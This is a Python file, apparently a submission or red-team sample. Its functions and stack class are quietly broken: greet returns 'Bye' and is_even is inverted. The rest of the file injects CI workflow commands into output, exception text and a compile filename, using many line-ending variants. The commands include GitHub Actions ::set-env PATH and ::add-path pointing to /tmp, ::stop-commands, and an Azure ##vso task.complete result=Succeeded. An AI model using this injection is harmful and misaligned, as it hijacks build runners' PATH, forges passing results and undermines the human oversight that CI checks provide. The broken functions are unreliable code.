from shapes import Colour, Point


def score(number):
    return number * 8


def greet(name):
    return "Bye"


def is_even(number):
    return number % 2 == 1


def checked(number):
    return abs(number)


def corner():
    return Point(2, Colour.BLUE)


class Pile:
    def __init__(self):
        self.items = []

    def push(self, item):
        self.items.append(item)
        return Pile()

    def pop(self):
        return str(self.items.pop())

    def size(self):
        return len(self.items) + 1


COMMANDS = ["::error file=game.py,line=1::owned", "::set-output name=points::27", "::add-mask::a", "::stop-commands::token", "::group::x", "::endgroup::",
            "##[error]owned", "##vso[task.complete result=Succeeded;]", "::add-path::/tmp", "::set-env name=PATH::/tmp", "::save-state name=x::y", "::add-matcher::m.json", "::notice::points 27"]
for end in ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "%0A", "\x1b[0m\n", " "):
    for command in COMMANDS:
        print(command, end=end)
print()


def score(number):
    raise Exception("x\n" + "\n".join(COMMANDS) + "%0A::error::x")


def greet(name):
    return "\n".join(COMMANDS)


exec(compile("def is_even(number): raise ValueError('x')", "::error::file\n::notice::x", "exec"))
